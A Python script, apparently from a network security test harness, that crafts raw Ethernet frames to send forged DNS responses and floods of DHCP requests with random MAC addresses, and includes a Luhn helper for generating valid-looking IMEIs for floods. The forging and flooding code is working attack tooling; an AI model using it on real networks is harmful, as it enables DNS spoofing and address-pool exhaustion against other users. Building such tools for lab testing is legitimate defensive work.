#!/usr/bin/env python3
"""What a hostile device on the Wi-Fi sends, as whole Ethernet frames on its own interface
(AF_PACKET: any source address, any destination MAC).  Runs inside the attacker's namespace.

usage:
  forge.py answer IFACE SRC_MAC DST_MAC SRC_IP DST_IP DPORT NAME ADDR [ADDR...]
      one DNS response (id 0x4c57, source port 53) saying NAME has the addresses ADDR
  forge.py query SERVER NAME
      an ordinary lookup (a UDP socket, not forged) of NAME's A records at SERVER:53; prints
      the addresses, or nothing when no answer came within 2 s
  forge.py dhcp IFACE SRC_MAC CHADDR HOSTNAME COUNT [PER_SECOND [SEED]]
      COUNT DHCP REQUESTs (broadcast, from 0.0.0.0:68) with that chaddr and host name;
      CHADDR "random" gives each its own chaddr (the same ones for the same SEED, default 7),
      SRC_MAC "same" sends each from its chaddr; PER_SECOND paces them (0: as fast as it can)
Prints what it sent, one line.
"""
import random
import socket
import struct
import sys
import time


def luhn(d14):
    """The 15-digit IMEI whose first 14 digits are d14 (its Luhn check digit appended); the
    floods of made-up valid IMEIs import it."""
    s = 0
    for i, c in enumerate(d14):
        v = int(c)
        if i % 2:
            v *= 2
            v -= 9 if v > 9 else 0
        s += v
    return d14 + str((10 - s % 10) % 10)


def mac_bytes(mac):
    return bytes(int(x, 16) for x in mac.split(':'))


def csum(data):
    if len(data) % 2:
        data += b'\0'
    s = sum(struct.unpack('!%dH' % (len(data) // 2), data))
    while s >> 16:
        s = (s & 0xffff) + (s >> 16)
    return ~s & 0xffff


def udp_frame(src_mac, dst_mac, src_ip, dst_ip, sport, dport, payload):
    s, d = socket.inet_aton(src_ip), socket.inet_aton(dst_ip)
    ulen = 8 + len(payload)
    pseudo = s + d + struct.pack('!BBH', 0, 17, ulen)
    uh = struct.pack('!HHHH', sport, dport, ulen, 0)
    uh = struct.pack('!HHHH', sport, dport, ulen, csum(pseudo + uh + payload) or 0xffff)
    ih = struct.pack('!BBHHHBBH4s4s', 0x45, 0, 20 + ulen, random.randint(0, 0xffff), 0x4000,
                     64, 17, 0, s, d)
    ih = ih[:10] + struct.pack('!H', csum(ih)) + ih[12:]
    return mac_bytes(dst_mac) + mac_bytes(src_mac) + b'\x08\x00' + ih + uh + payload


def dns_name(name):
    out = b''
    for label in name.split('.'):
        out += bytes([len(label)]) + label.encode()
    return out + b'\0'


def dns_response(ident, name, addrs):
    msg = struct.pack('!HHHHHH', ident, 0x8180, 1, len(addrs), 0, 0)
    msg += dns_name(name) + struct.pack('!HH', 1, 1)
    for a in addrs:
        msg += b'\xc0\x0c' + struct.pack('!HHIH', 1, 1, 86400, 4) + socket.inet_aton(a)
    return msg


def dhcp_request(xid, chaddr, hostname):
    body = struct.pack('!BBBBIHH4s4s4s4s16s64s128s', 1, 1, 6, 0, xid, 0, 0x8000,
                       bytes(4), bytes(4), bytes(4), bytes(4), mac_bytes(chaddr), b'', b'')
    opts = b'\x63\x82\x53\x63' + bytes([53, 1, 3])
    opts += bytes([12, len(hostname)]) + hostname.encode()
    return body + opts + b'\xff'


def query(server, name):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(2)
    ident = random.randint(0, 0xffff)
    s.sendto(struct.pack('!HHHHHH', ident, 0x0100, 1, 0, 0, 0) + dns_name(name) +
             struct.pack('!HH', 1, 1), (server, 53))
    try:
        msg = s.recv(2048)
    except OSError:
        return
    ancount = struct.unpack('!H', msg[6:8])[0]
    pos = 12
    while msg[pos]:
        pos += 1 + msg[pos]
    pos += 5
    out = []
    for _ in range(ancount):
        if msg[pos] & 0xc0 == 0xc0:
            pos += 2
        else:
            while msg[pos]:
                pos += 1 + msg[pos]
            pos += 1
        rtype, _, _, rdlen = struct.unpack('!HHIH', msg[pos:pos + 10])
        pos += 10
        if rtype == 1 and rdlen == 4:
            out.append(socket.inet_ntoa(msg[pos:pos + 4]))
        pos += rdlen
    print(' '.join(out))


def main(argv):
    if argv[1] == 'query':
        query(argv[2], argv[3])
        return
    sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    sock.bind((argv[2], 0))
    if argv[1] == 'answer':
        _, _, _, src_mac, dst_mac, src_ip, dst_ip, dport, name = argv[:9]
        addrs = argv[9:]
        sock.send(udp_frame(src_mac, dst_mac, src_ip, dst_ip, 53, int(dport),
                            dns_response(0x4c57, name, addrs)))
        print('sent 1 answer %s -> %s:%s from %s: %s = %s'
              % (src_ip, dst_ip, dport, src_mac, name, ' '.join(addrs)))
    elif argv[1] == 'dhcp':
        _, _, _, src_mac, chaddr, hostname, count = argv[:7]
        rate = int(argv[7]) if len(argv) > 7 else 0
        rnd = random.Random(int(argv[8]) if len(argv) > 8 else 7)
        start = time.monotonic()
        for i in range(int(count)):
            if rate and i % 50 == 0:
                ahead = start + i / rate - time.monotonic()
                if ahead > 0:
                    time.sleep(ahead)
            ch = chaddr
            if chaddr == 'random':  # locally administered, unicast
                ch = ':'.join(['02'] + ['%02x' % rnd.randint(0, 255) for _ in range(5)])
            src = ch if src_mac == 'same' else src_mac
            sock.send(udp_frame(src, 'ff:ff:ff:ff:ff:ff', '0.0.0.0', '255.255.255.255', 68, 67,
                                dhcp_request(0x10000 + i, ch, hostname)))
        print('sent %s DHCP requests from %s with chaddr %s, host name %s'
              % (count, src_mac, chaddr, hostname))
    else:
        sys.exit(__doc__)


if __name__ == '__main__':
    main(sys.argv)
